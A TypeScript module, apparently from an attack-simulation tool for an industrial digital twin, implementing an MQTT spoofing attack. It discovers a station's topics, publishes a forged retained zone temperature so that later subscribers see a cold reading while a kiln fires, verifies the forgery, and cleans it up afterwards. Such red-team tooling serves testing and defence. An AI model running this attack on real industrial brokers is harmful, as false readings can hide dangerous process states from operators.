/**
 * Spoof reporting message over MQTT: publish a forged, retained value on one of the twin's own
 * UNS topics (the station's first zone temperature, or another of its tags), so every client
 * that subscribes from then on is handed the lie first. A second connection checks what a new
 * subscriber is told.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import type { MqttClient } from 'mqtt';
import { trail } from './common.ts';

/** the forged value: a cold zone while the kiln fires */
const FORGED = 20;
const SPOOFED = 'spoofed-topic';

/** The first value a new subscriber to `topic` is handed (retained), or null. */
async function firstValue(client: MqttClient | null, topic: string): Promise<string | null> {
  if (client === null) return null;
  const got = { v: null as string | null };
  client.on('message', (t, p) => {
    if (t === topic && got.v === null) got.v = p.toString('utf8').slice(0, 200);
  });
  await client.subscribeAsync(topic).catch(() => undefined);
  const end = Date.now() + 2000;
  while (got.v === null && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
  return got.v;
}

export const mqttSpoof: Attack = {
  id: 'mqtt-spoof',
  title: 'MQTT spoofed reporting: a forged retained value on the twin\'s own UNS topic',
  techniques: [T.spoofReportingMessage],
  face: 'mqtt',
  preconditions: ['a connection that may publish (anonymous on an open broker, or an account the attacker holds)', 'the UNS prefix (learned from a # subscription)'],
  steps: ['CONNECT and SUBSCRIBE # to learn the station\'s topics', `PUBLISH {"v":${FORGED},…} retained to <prefix>/<station>/<tag>`, 'CONNECT again and read what a new subscriber is handed'],
  expectedImpact: 'operators and historians subscribing afterwards see the forged value instead of the twin\'s (Denial/Manipulation of View)',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { listen, mqttClose, mqttConnect, publish } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const station = ctx.station.toLowerCase();
    const client = await mqttConnect(ctx, evidence);
    let result = 'no connection';
    let topic: string | null = null;
    let real: string | null = null;
    if (client !== null) {
      // every retained value of the station, not just the first topic: the forged one should look like a real tag
      const { prefix, topics } = await listen(client, station, 2000, false);
      const own = prefix === null ? [] : [...topics.keys()].filter((t) => t.startsWith(`${prefix}/${station}/`) && /^\{"v":-?\d/.test(topics.get(t) ?? ''));
      topic = own.find((t) => t.endsWith('/t1')) ?? own[0] ?? null;
      if (topic === null) result = 'no numeric tag of the station seen';
      else {
        real = topics.get(topic) ?? null;
        const u = /"u":"([^"]*)"/.exec(real ?? '')?.[1] ?? '';
        result = await publish(client, topic, JSON.stringify({ v: FORGED, t: Date.now(), u }), { retain: true });
        evidence.push(`MQTT: PUBLISH retained ${topic} {"v":${FORGED}} → ${result} (the twin published ${real ?? '?'})`);
        if (result === 'acked') ctx.memo.set(SPOOFED, topic);
      }
      await mqttClose(client);
    }
    let seen: string | null = null;
    if (topic !== null && result === 'acked') {
      const probe = await mqttConnect(ctx, []);
      seen = await firstValue(probe, topic);
      await mqttClose(probe);
      evidence.push(`MQTT: a new subscriber to ${topic} is handed ${seen ?? 'nothing'}`);
    }
    await trail(ctx, evidence, result !== 'acked');
    const fooled = seen !== null && new RegExp(`^\\{"v":${FORGED}[,}]`).test(seen);
    return { outcome: fooled ? 'succeeded' : 'blocked', evidence, impact: { topic, publish: result, twinValue: real, newSubscriberSees: seen } };
  },
  async cleanup(ctx) {
    const topic = ctx.memo.get(SPOOFED);
    if (typeof topic !== 'string') return;
    const { mqttClose, mqttConnect, publish } = await import('../clients/mqtt.ts');
    // an empty retained message removes the forged one; the twin republishes on the next change
    const client = await mqttConnect(ctx, []);
    if (client !== null) await publish(client, topic, '', { retain: true });
    await mqttClose(client);
  },
};
